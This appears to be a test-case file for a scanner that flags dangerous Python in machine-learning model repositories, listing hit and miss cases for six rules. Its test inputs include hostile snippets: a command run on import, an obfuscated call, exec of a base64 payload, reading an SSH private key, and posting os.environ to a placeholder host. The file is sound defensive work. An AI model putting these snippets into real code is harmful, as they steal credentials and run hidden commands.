/** Cases of TW-PYC: sources as the reader sees them. */
import type { CodeFact, FileFacts } from '../../formats/index.ts'
import { loadGrammar } from '../../formats/python/grammar.ts'
import { CodeReport } from '../../formats/python/report.ts'
import { describeSource } from '../../formats/python/walk.ts'
import { anomaly, card, file, hit, miss, subjectOf, type CaseSubject, type RuleCase } from './build.ts'

await loadGrammar()

function factsOf(text: string): readonly CodeFact[] {
  const report = new CodeReport()
  describeSource(text, report)
  return report.facts
}

function source(text: string, path = 'modeling_net.py', beside: readonly FileFacts[] = []): CaseSubject {
  return subjectOf([file(path, 'python', { code: factsOf(text) }), ...beside, card()])
}

function bytecode(path: string, beside: readonly string[] = []): CaseSubject {
  const sources = beside.map((each) => file(each, 'python'))
  return subjectOf([file(path, 'pyc', { reading: 'listed' }), ...sources, card()])
}

const packed = Buffer.from('import os\nos.system("id")  # pad pad pad pad pad').toString('base64')
/** What code of models looks like. */
const MODEL = `
import math
import os
import torch
from torch import nn
from transformers import PreTrainedModel
from .configuration_net import NetConfig
try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None
logger = logging.get_logger(__name__)

class Attention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.scale = 1 / math.sqrt(config.head_dim)
        self.apply_fn = eval_mode if config.eval else None

    def forward(self, x, mask=None):
        return torch.softmax(x * self.scale, dim=-1)

class NetModel(PreTrainedModel):
    config_class = NetConfig

    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([Attention(config) for _ in range(config.num_layers)])
        self.model = torch.compile(self.layers)
        self.model.eval()

    @classmethod
    def from_pretrained(cls, path, **kwargs):
        with open(os.path.join(path, 'vocab.json'), encoding='utf-8') as f:
            cls.vocab = json.load(f)
        return super().from_pretrained(path, **kwargs)

    def save_vocabulary(self, folder):
        with open(os.path.join(folder, 'vocab.json'), 'w') as f:
            json.dump(self.vocab, f)
        os.environ['TOKENIZERS_PARALLELISM'] = 'false'
`

const SINKS: readonly RuleCase[] = [
  hit('TW-PYC-01', 'a command on import', source('import os\nos.system("id")')),
  hit('TW-PYC-01', 'a command under another name', source("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')")),
  hit(
    'TW-PYC-01',
    'a command when a model is built',
    source('import os, torch\nclass Net(torch.nn.Module):\n  def __init__(self):\n    os.popen("id")'),
  ),
  hit(
    'TW-PYC-01',
    'an environment that is sent away',
    source('import os, requests\nrequests.post("https://collect.invalid", json=dict(os.environ))'),
  ),
  hit('TW-PYC-01', 'a key that is read', source("open('/root/.ssh/id_rsa').read()")),
  hit('TW-PYC-01', 'a packed program that is run', source(`import base64\nexec(base64.b64decode('${packed}'))`)),
  miss('TW-PYC-01', 'ordinary code of a model', source(MODEL)),
  miss('TW-PYC-01', 'a command in a function', source('import os\ndef run():\n  os.system("id")')),
  miss(
    'TW-PYC-01',
    'a command of a script that is started',
    source('import subprocess\nif __name__ == "__main__":\n  subprocess.run(["ls"])'),
  ),
  miss('TW-PYC-01', 'a method that is called eval', source('model.eval()\nre.compile("a")\nengine.exec("x")')),
  miss('TW-PYC-01', 'a variable that may hold a secret', source("import os\nTOKEN = os.environ['HF_TOKEN']")),
  hit('TW-PYC-02', 'a command in a function', source('import os\ndef run():\n  os.system("id")')),
  hit(
    'TW-PYC-02',
    'a picture that is fetched',
    source('import requests\nclass Eye:\n  def look(self, url):\n    return requests.get(url)'),
  ),
  miss('TW-PYC-02', 'ordinary code of a model', source(MODEL)),
  miss('TW-PYC-02', 'a command on import', source('import os\nos.system("id")')),
  miss('TW-PYC-02', 'a file that is written when asked', source('def save(p):\n  open(p, "w").write("x")')),
]

const HIDDEN: readonly RuleCase[] = [
  hit('TW-PYC-03', 'a packed program that nothing is done with', source(`DATA = '${packed}'`)),
  hit('TW-PYC-03', 'characters by their numbers', source(`exec(bytes([${[...Buffer.from('import os')].join(',')}]))`)),
  miss('TW-PYC-03', 'ordinary code of a model', source(MODEL)),
  miss(
    'TW-PYC-03',
    'a packed picture',
    source(`ICON = '${Buffer.alloc(200, 'PNG picture data ').toString('base64')}'`),
  ),
  hit('TW-PYC-04', 'bytecode without source', bytecode('net/__pycache__/modeling.cpython-312.pyc')),
  hit('TW-PYC-04', 'a file that Python runs at every start', source('x = 1', 'sitecustomize.py')),
  hit('TW-PYC-04', 'a module that is replaced', source('import builtins\nbuiltins.open = print')),
  hit('TW-PYC-04', 'a finder of modules', source('import sys\nsys.meta_path.insert(0, Finder())')),
  hit(
    'TW-PYC-04',
    'broken bytecode',
    subjectOf([file('a.pyc', 'pyc', { anomalies: [anomaly('pyc-broken')] }), file('a.py', 'python'), card()]),
  ),
  miss('TW-PYC-04', 'bytecode beside its source', bytecode('net/__pycache__/m.cpython-312.pyc', ['net/m.py'])),
  miss('TW-PYC-04', 'ordinary code of a model', source(MODEL)),
  miss('TW-PYC-04', 'a member of its own', source('class A:\n  pass\nA.open = print')),
]

/** See the module. */
export const PROGRAM_CASES: readonly RuleCase[] = [
  ...SINKS,
  ...HIDDEN,
  hit('TW-PYC-05', 'a module that nobody looked at', source('import acme_helpers')),
  hit(
    'TW-PYC-05',
    'an artefact that is fetched',
    source('from huggingface_hub import hf_hub_download as get\nget("a/b", "c")'),
  ),
  hit('TW-PYC-05', 'a checkpoint that is loaded', source('import torch\ndef load(p):\n  return torch.load(p)')),
  miss('TW-PYC-05', 'ordinary code of a model', source(MODEL)),
  miss('TW-PYC-05', 'a module beside it', source('import acme_helpers', 'a.py', [file('acme_helpers.py', 'python')])),
  miss(
    'TW-PYC-05',
    'a checkpoint of weights only',
    source('import torch\ndef load(p):\n  return torch.load(p, weights_only=True)'),
  ),
  hit('TW-PYC-06', 'a library that is loaded', source('import ctypes\nctypes.CDLL("./x.so")')),
  hit(
    'TW-PYC-06',
    'a kernel that is compiled',
    source('from torch.utils.cpp_extension import load\nload(name="k", sources=["k.cu"])'),
  ),
  miss('TW-PYC-06', 'ordinary code of a model', source(MODEL)),
  miss('TW-PYC-06', 'a kernel of triton', source('import triton\n@triton.jit\ndef kernel(x):\n  pass')),
]
